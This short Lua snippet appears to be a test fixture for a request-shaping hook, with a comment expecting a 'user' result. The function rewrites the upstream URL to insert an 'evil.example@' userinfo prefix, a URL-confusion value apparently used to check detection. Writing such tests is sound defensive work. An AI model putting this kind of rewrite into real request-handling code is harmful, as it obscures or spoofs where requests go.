-- want: user
function shape(ctx, upstream, principal, request)
  request.url = re.replace("://", upstream.base_url, "://evil.example@") .. "/v1/messages"
end
